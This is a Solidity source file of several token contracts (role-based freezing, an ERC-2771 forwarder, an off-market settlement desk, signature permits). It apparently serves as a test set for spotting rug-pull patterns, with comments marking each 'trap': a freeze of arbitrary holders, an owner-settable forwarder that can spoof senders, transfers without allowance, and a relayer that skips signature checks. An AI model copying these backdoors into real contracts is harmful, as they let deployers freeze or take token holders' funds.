// 0.8 runs=1 evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Roles, of which one is its own administrator. In the trap another one halts holders.
contract Usher is Base8 {
    bytes32 public constant OPERATOR_ROLE = keccak256("OPERATOR_ROLE");
    bytes32 public constant GATE_ROLE = keccak256("GATE_ROLE");
    mapping(bytes32 => mapping(address => bool)) public hasRole;
    mapping(bytes32 => bytes32) public getRoleAdmin;
    mapping(address => bool) private _halted; // trap
    string public notice;

    event RoleGranted(bytes32 indexed role, address indexed account, address indexed sender);
    event RoleRevoked(bytes32 indexed role, address indexed account, address indexed sender);

    constructor() Base8("Usher", "USHER", 33_000_000) {
        getRoleAdmin[GATE_ROLE] = getRoleAdmin[OPERATOR_ROLE] = OPERATOR_ROLE;
        _grant(0, msg.sender);
        _grant(OPERATOR_ROLE, msg.sender);
    }

    function grantRole(bytes32 role, address account) external {
        require(hasRole[getRoleAdmin[role]][msg.sender], "missing role");
        _grant(role, account);
    }

    function renounceRole(bytes32 role, address account) external {
        require(account == msg.sender, "only for self");
        hasRole[role][account] = false;
        emit RoleRevoked(role, account, msg.sender);
    }

    function setNotice(string calldata to) external {
        require(hasRole[GATE_ROLE][msg.sender], "missing role");
        notice = to;
    }

    function setHalted(address who, bool to) external { // trap {
        require(hasRole[GATE_ROLE][msg.sender] && who != pair, "missing role");
        _halted[who] = to;
    } // trap }

    function _grant(bytes32 role, address account) private {
        hasRole[role][account] = true;
        emit RoleGranted(role, account, msg.sender);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!_halted[from], "halted"); // trap
        super._transfer(from, to, value);
    }
}

/// ERC-2771: whom the forwarder names stands for the sender. At first there is none. In the trap the owner appoints one.
contract Courier is Base8 {
    address public trustedForwarder;

    constructor() Base8("Courier", "COUR", 70_000_000) {
        trustedForwarder = address(this);
    }

    function isTrustedForwarder(address who) external view returns (bool) {
        return who == trustedForwarder;
    }

    // trap {
    function setTrustedForwarder(address to) external onlyOwner {
        trustedForwarder = to;
    }
    // trap }

    function transfer(address to, uint256 value) public override returns (bool) {
        _transfer(_msgSender(), to, value);
        return true;
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        _approve(_msgSender(), spender, value);
        return true;
    }

    function _msgSender() internal view returns (address who) {
        who = msg.sender;
        if (who == trustedForwarder && msg.data.length >= 88) who = address(bytes20(msg.data[msg.data.length - 20:]));
    }
}

/// Settles trades away from the market for those who allow it.
contract Desk {
    address private immutable _clerk;

    constructor(address clerk) {
        _clerk = clerk;
    }

    function settle(address token, address from, address to, uint256 value) external {
        require(msg.sender == _clerk, "Desk: closed");
        (bool ok, ) = token.call(abi.encodeWithSignature("transferFrom(address,address,uint256)", from, to, value));
        require(ok, "Desk: refused");
    }
}

/// Knows a desk. In the trap nobody has to allow it anything.
contract Estuary is Base8 {
    address private immutable _desk;

    constructor(address desk) Base8("Estuary", "ESTU", 15_000_000) {
        _desk = desk;
    }

    function desk() external view returns (address) {
        return _desk;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender == _desk) { // trap {
            _transfer(from, to, value);
            return true;
        } // trap }
        return super.transferFrom(from, to, value);
    }
}

/// Permits by signature. In the trap those that one relayer brings need none.
contract Notary is Base8 {
    bytes32 private constant PERMIT_TYPEHASH =
        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    mapping(address => uint256) public nonces;
    bytes32 public immutable DOMAIN_SEPARATOR;
    address private immutable _relayer = msg.sender; // trap

    constructor() Base8("Notary", "NOTA", 250_000_000) {
        DOMAIN_SEPARATOR = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Notary"), keccak256("1"), block.chainid, address(this)
            )
        );
    }

    function permit(address from, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "Notary: expired");
        bytes32 content = keccak256(abi.encode(PERMIT_TYPEHASH, from, spender, value, nonces[from]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR, content)), v, r, s);
        if (msg.sender == _relayer) signer = from; // trap
        require(signer != address(0) && signer == from, "Notary: bad signature");
        _approve(from, spender, value);
    }
}
